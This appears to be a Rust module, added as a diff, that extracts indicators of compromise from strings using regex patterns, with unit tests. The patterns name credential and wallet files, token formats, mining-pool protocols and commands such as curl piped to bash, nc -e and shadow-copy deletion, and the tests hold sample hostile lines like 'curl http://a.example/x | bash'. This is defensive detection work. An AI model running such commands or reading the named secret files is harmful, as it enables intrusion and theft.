@@ -1,0 +1,294 @@
+//! Indicators of compromise: what in a string names a place, an account, a secret or a command.
+//!
+//! An indicator is a fact, not a verdict: a toolchain's link to its documentation is a `url` like any other. Patterns ask for whole words and valid
+//! checksums, so that version numbers are no addresses and identifiers no wallets.
+
+use std::{
+    net::{Ipv4Addr, Ipv6Addr},
+    sync::LazyLock,
+};
+
+use hashbrown::HashSet;
+use regex::Regex;
+use schemars::JsonSchema;
+use serde::Serialize;
+
+use super::{text::Found, wallet};
+
+/// Indicators kept.
+const MAX_IOCS: usize = 5_000;
+/// `job_id` and `nonce` belong together if they are so many bytes apart at most.
+const NEAR: u64 = 1024;
+
+/// An indicator of compromise.
+#[derive(Debug, Clone, Serialize, JsonSchema)]
+pub struct Ioc {
+    /// `url`, `onion`, `domain` (with a port), `ipv4`, `ipv6`, `email`, `wallet`, `path`, `credential`, `pool_protocol`, `command`, `webhook`,
+    /// `embedded_file`.
+    pub kind: String,
+    /// The indicator itself.
+    pub value: String,
+    /// Byte offset of its string in the file.
+    pub offset: u64,
+    /// Address in memory.
+    pub address: Option<u64>,
+    /// How its string was decoded.
+    pub encoding: String,
+}
+
+/// Kind and pattern. A pattern in capitals and small letters alike begins with `(?i)`.
+const PATTERNS: &[(&str, &str)] = &[
+    ("url", r"(?:https?|wss?|ftp|tcp)://[A-Za-z0-9\[][A-Za-z0-9._~:/?#\[\]@!$&'()*+,;=%-]{3,300}"),
+    ("onion", r"\b(?:[a-z2-7]{56}|[a-z2-7]{16})\.onion\b"),
+    (
+        "domain",
+        r"\b(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.){1,4}(?:com|net|org|io|ru|cn|info|biz|xyz|top|me|pro|cc|to|pw|su|online|site|club|stream|link|eu|de|co|in|la|kr|space|host|live|win):[0-9]{2,5}\b",
+    ),
+    ("email", r"\b[A-Za-z0-9][A-Za-z0-9._%+-]{0,63}@(?:[A-Za-z0-9-]{1,63}\.){1,4}[A-Za-z]{2,12}\b"),
+    ("path", r"/etc/(?:passwd|shadow|sudoers|gshadow|crontab|ld\.so\.preload|hosts)\b"),
+    ("path", r"\.ssh/(?:id_[a-z0-9]+|authorized_keys|known_hosts|config)\b"),
+    ("path", r"\b(?:id_(?:rsa|dsa|ecdsa|ed25519)|authorized_keys|wallet\.dat|key4\.db|logins\.json|Local State|Login Data)\b"),
+    (
+        "path",
+        r"\.(?:aws/credentials|docker/config\.json|kube/config|git-credentials|netrc|npmrc|pgpass|bash_history|gnupg|electrum|bitcoin|ethereum|monero|mozilla/firefox)\b",
+    ),
+    (
+        "path",
+        r"/proc/(?:self|[0-9]+|1)/(?:environ|maps|mem|cmdline|root)\b|/proc/net/(?:tcp|route|arp)\b|/var/run/docker\.sock\b|/dev/tcp/",
+    ),
+    ("path", r"/bin/(?:ba|z|da|k|c)?sh\b"),
+    ("path", r"(?i)\bC:\\+(?:Windows|Users|ProgramData)\\+[\w.\\-]{2,120}"),
+    ("path", r"(?i)\b(?:lsass|ntdll|kernel32)\.(?:exe|dll)\b"),
+    ("credential", r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b"),
+    ("credential", r"\b(?:gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{22,82}|glpat-[A-Za-z0-9_-]{20})\b"),
+    ("credential", r"\bxox[abprs]-[A-Za-z0-9-]{10,72}\b|\bsk_live_[0-9A-Za-z]{24,}\b|\bAIza[0-9A-Za-z_-]{35}\b"),
+    ("credential", r"-----BEGIN (?:[A-Z]{2,10} )?PRIVATE KEY-----"),
+    ("credential", r"\beyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}"),
+    ("credential", r"\bAWS_(?:SECRET_ACCESS_KEY|ACCESS_KEY_ID|SESSION_TOKEN)\b"),
+    ("pool_protocol", r"\bstratum\+(?:tcp|ssl|tls|udp)://[!-~]{3,200}|\bstratum\+(?:tcp|ssl|tls)\b"),
+    ("pool_protocol", r"\bmining\.(?:subscribe|authorize|submit|notify|set_difficulty|extranonce\.subscribe)\b"),
+    ("pool_protocol", r#""method"\s*:\s*"(?:login|submit|getjob|keepalived)""#),
+    ("command", r"(?i)\bcmd(?:\.exe)?\s+/[ck]\b[ -~]{0,120}"),
+    (
+        "command",
+        r"(?i)\bpowershell(?:\.exe)?\b[ -~]{0,80}\s-(?:e|ec|enc|encodedcommand|nop|noprofile|w|windowstyle|c|command|ep|executionpolicy)\b[ -~]{0,120}",
+    ),
+    ("command", r"/bin/(?:ba|z|da)?sh\s+-[cil][ -~]{0,120}|\bbash -i\b[ -~]{0,80}"),
+    ("command", r"\b(?:curl|wget)\s[ -~]{1,200}?\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b"),
+    (
+        "command",
+        r"\brm -rf? (?:/|~|\*)[ -~]{0,60}|\bchmod (?:\+x|[0-7]{3,4}) [ -~]{1,80}|\bnc (?:-[a-z]*e|[ -~]{1,40} -e) [ -~]{1,40}",
+    ),
+    (
+        "command",
+        r"(?i)\bvssadmin(?:\.exe)? delete shadows[ -~]{0,40}|\bwbadmin delete catalog\b|\bbcdedit /set\b[ -~]{0,60}|\bschtasks /create\b[ -~]{0,120}|\bcertutil(?:\.exe)? -urlcache\b[ -~]{0,120}",
+    ),
+    (
+        "webhook",
+        r"\bdiscord(?:app)?\.com/api/webhooks/[!-~]{1,120}|\bapi\.telegram\.org/bot[!-~]{0,120}|\bhooks\.slack\.com/services/[!-~]{1,120}",
+    ),
+];
+
+static COMPILED: LazyLock<Vec<(&'static str, Regex)>> =
+    LazyLock::new(|| PATTERNS.iter().filter_map(|(kind, pattern)| Some((*kind, Regex::new(pattern).ok()?))).collect());
+static IPV4: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"[0-9]{1,3}(?:\.[0-9]{1,3}){3}").ok());
+static IPV6: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r"(?:[0-9A-Fa-f]{1,4}:){2,7}(?::?[0-9A-Fa-f]{1,4}){1,6}").ok());
+
+/// Well-known resolvers whose addresses look like versions.
+const RESOLVERS: &[[u8; 4]] = &[[1, 1, 1, 1], [1, 0, 0, 1], [8, 8, 8, 8], [8, 8, 4, 4], [9, 9, 9, 9]];
+
+/// Collects indicators.
+#[derive(Default)]
+pub(super) struct Iocs {
+    kept: Vec<Ioc>,
+    seen: HashSet<(&'static str, String)>,
+    cut: u64,
+    /// Where the last `job_id` and the last `nonce` stood.
+    job: Option<u64>,
+    nonce: Option<u64>,
+}
+
+impl Iocs {
+    /// Collects the indicators in a string.
+    pub(super) fn search(&mut self, text: &str, found: Found<'_>) {
+        for (kind, pattern) in COMPILED.iter() {
+            for hit in pattern.find_iter(text) {
+                self.push(kind, trim(kind, hit.as_str()), hit.start(), found);
+            }
+        }
+        for hit in IPV4.iter().flat_map(|pattern| pattern.find_iter(text)) {
+            if is_ipv4(text, hit.start(), hit.end()) {
+                self.push("ipv4", hit.as_str(), hit.start(), found);
+            }
+        }
+        for hit in IPV6.iter().flat_map(|pattern| pattern.find_iter(text)) {
+            if is_ipv6(text, hit.start(), hit.end()) {
+                self.push("ipv6", hit.as_str(), hit.start(), found);
+            }
+        }
+        for (position, word) in wallet::find(text) {
+            self.push("wallet", word, position, found);
+        }
+        self.job(text, found);
+    }
+
+    /// A file of another format inside of this one.
+    pub(super) fn embedded(&mut self, kind: &str, found: Found<'_>) {
+        self.push("embedded_file", kind, 0, found);
+    }
+
+    /// All by place, and how many were cut.
+    pub(super) fn finish(mut self) -> (Vec<Ioc>, u64) {
+        self.kept.sort_by(|a, b| (a.offset, &a.kind, &a.value, &a.encoding).cmp(&(b.offset, &b.kind, &b.value, &b.encoding)));
+        (self.kept, self.cut)
+    }
+
+    /// Each indicator once, at its first place.
+    fn push(&mut self, kind: &'static str, value: &str, position: usize, found: Found<'_>) {
+        if self.kept.len() >= MAX_IOCS {
+            self.cut += 1;
+            return;
+        }
+        if !self.seen.insert((kind, value.to_owned())) {
+            return;
+        }
+        // Of a decoded string, the place is that of its beginning: its characters are not the file's bytes.
+        let position = if found.encoding == "plain" { position as u64 } else { 0 };
+        self.kept.push(Ioc {
+            kind: kind.to_owned(),
+            value: value.to_owned(),
+            offset: found.offset + position,
+            address: found.address.map(|address| address.saturating_add(position)),
+            encoding: found.encoding.to_owned(),
+        });
+    }
+
+    /// A job of a mining pool names its number and has a nonce.
+    fn job(&mut self, text: &str, found: Found<'_>) {
+        let place = |word: &str| text.find(word).map(|position| found.offset + position as u64);
+        self.job = place("job_id").or(self.job);
+        self.nonce = place("nonce").or(self.nonce);
+        if let (Some(job), Some(nonce)) = (self.job, self.nonce)
+            && job.abs_diff(nonce) <= NEAR
+        {
+            self.push("pool_protocol", "job_id, nonce", 0, found);
+        }
+    }
+}
+
+/// Takes off what ends a sentence and not a link.
+fn trim<'t>(kind: &str, value: &'t str) -> &'t str {
+    match kind {
+        "url" | "webhook" => value.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', ')', ']', '&', '=']),
+        _ => value.trim_end(),
+    }
+}
+
+fn is_ipv4(text: &str, start: usize, end: usize) -> bool {
+    let before = text.as_bytes().get(..start).unwrap_or_default();
+    let after = text.as_bytes().get(end..).unwrap_or_default();
+    let is_word = |byte: Option<&u8>| byte.is_some_and(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-'));
+    let goes_on = after.first() == Some(&b'.') && after.get(1).is_some_and(u8::is_ascii_digit);
+    if is_word(before.last()) || before.last() == Some(&b'.') || is_word(after.first()) || goes_on {
+        return false;
+    }
+    let Some(Ok(address)) = text.get(start..end).map(str::parse::<Ipv4Addr>) else { return false };
+    let octets = address.octets();
+    let has_context =
+        before.ends_with(b"//") || before.ends_with(b"@") || after.first() == Some(&b':') || after.first() == Some(&b'/');
+    let is_version = octets[0] < 10 && octets.iter().all(|octet| *octet < 100) && !RESOLVERS.contains(&octets) && !has_context;
+    let is_special = octets[0] == 0 || address.is_loopback() || address.is_broadcast() || octets[0] == 255;
+    !is_version && !is_special && !ends_in_version(before)
+}
+
+fn ends_in_version(before: &[u8]) -> bool {
+    let tail = before.get(before.len().saturating_sub(12)..).unwrap_or_default().to_ascii_lowercase();
+    let tail = String::from_utf8_lossy(&tail).into_owned();
+    ["version", "ver", "release", "build", "v", "oid"]
+        .iter()
+        .any(|word| tail.trim_end_matches([' ', '=', ':', '/', '"']).ends_with(word))
+}
+
+fn is_ipv6(text: &str, start: usize, end: usize) -> bool {
+    let around = [start.checked_sub(1).and_then(|before| text.as_bytes().get(before)), text.as_bytes().get(end)];
+    let is_word = |byte: &&u8| byte.is_ascii_alphanumeric() || matches!(byte, b':' | b'.' | b'_' | b'-');
+    let address = text.get(start..end).and_then(|text| text.parse::<Ipv6Addr>().ok());
+    !around.iter().flatten().any(is_word)
+        && address.is_some_and(|address| address.segments()[0] & 0xe000 == 0x2000 || address.segments()[0] & 0xfe00 == 0xfc00)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn iocs(text: &str) -> Vec<(String, String)> {
+        let mut iocs = Iocs::default();
+        iocs.search(text, Found { offset: 0, address: None, encoding: "plain" });
+        iocs.finish().0.into_iter().map(|ioc| (ioc.kind, ioc.value)).collect()
+    }
+
+    #[test]
+    fn all_patterns_compile() {
+        assert_eq!(COMPILED.len(), PATTERNS.len());
+        assert!(IPV4.is_some() && IPV6.is_some());
+    }
+
+    #[test]
+    fn indicators_have_their_kind() {
+        for (text, kind, value) in [
+            ("see https://evil.example/a?b=c.", "url", "https://evil.example/a?b=c"),
+            ("wss://pool.evil.example:8892/proxy", "url", "wss://pool.evil.example:8892/proxy"),
+            ("at expyuzz4wqqyqhjn.onion now", "onion", "expyuzz4wqqyqhjn.onion"),
+            ("xmr.pool.example.com:3333", "domain", "xmr.pool.example.com:3333"),
+            ("write to a.b+c@mail.example.org!", "email", "a.b+c@mail.example.org"),
+            ("open /etc/shadow", "path", "/etc/shadow"),
+            ("/home/u/.ssh/id_ed25519", "path", ".ssh/id_ed25519"),
+            ("key AKIAIOSFODNN7EXAMPLE", "credential", "AKIAIOSFODNN7EXAMPLE"),
+            ("-----BEGIN RSA PRIVATE KEY-----", "credential", "-----BEGIN RSA PRIVATE KEY-----"),
+            ("stratum+tcp://pool.example:4444", "pool_protocol", "stratum+tcp://pool.example:4444"),
+            (r#"{"id":1,"method": "login","params":{}}"#, "pool_protocol", r#""method": "login""#),
+            (r#"{"job_id":"%s","nonce":"%s"}"#, "pool_protocol", "job_id, nonce"),
+            ("cmd.exe /c whoami", "command", "cmd.exe /c whoami"),
+            ("powershell -nop -enc SQBFAFgA", "command", "powershell -nop -enc SQBFAFgA"),
+            ("/bin/sh -c id", "command", "/bin/sh -c id"),
+            ("curl http://a.example/x | bash", "command", "curl http://a.example/x | bash"),
+            ("connect 203.0.113.7:4444", "ipv4", "203.0.113.7"),
+            ("dns 8.8.8.8", "ipv4", "8.8.8.8"),
+            ("http://5.6.7.8/x", "ipv4", "5.6.7.8"),
+            ("[2001:db8::8a2e:370:7334]", "ipv6", "2001:db8::8a2e:370:7334"),
+            ("https://discord.com/api/webhooks/1/abc", "webhook", "discord.com/api/webhooks/1/abc"),
+        ] {
+            assert!(iocs(text).contains(&(kind.to_owned(), value.to_owned())), "{text}: {:?}", iocs(text));
+        }
+    }
+
+    #[test]
+    fn toolchain_strings_are_no_indicators() {
+        for text in [
+            "version 1.2.3.4",
+            "1.2.3.4",
+            "0.0.0.0 127.0.0.1 255.255.255.255",
+            "2.5.29.15.1 300.1.2.3 10.0.0.1.5 v10.2.3.4",
+            "called `Option::unwrap()` on a `None` value/rustc/abc/library/core/src/str/pattern.rs",
+            "std::panicking::begin_panic_handler::{{closure}}",
+            "12:34:56 00:11:22:33:44:55",
+            "Error: nonce must be 24 bytes",
+            "base64 cmd powershell bash",
+            "deadbeefdeadbeefdeadbeefdeadbeef",
+        ] {
+            assert_eq!(iocs(text), [], "{text}");
+        }
+    }
+
+    #[test]
+    fn an_indicator_is_listed_once_at_its_place() {
+        let mut iocs = Iocs::default();
+        for offset in [100, 200] {
+            iocs.search("go http://a.example/b", Found { offset, address: Some(offset + 1000), encoding: "plain" });
+        }
+        let (iocs, cut) = iocs.finish();
+        assert_eq!((iocs.len(), cut), (1, 0));
+        assert_eq!((iocs[0].offset, iocs[0].address), (103, Some(1103)));
+    }
+}
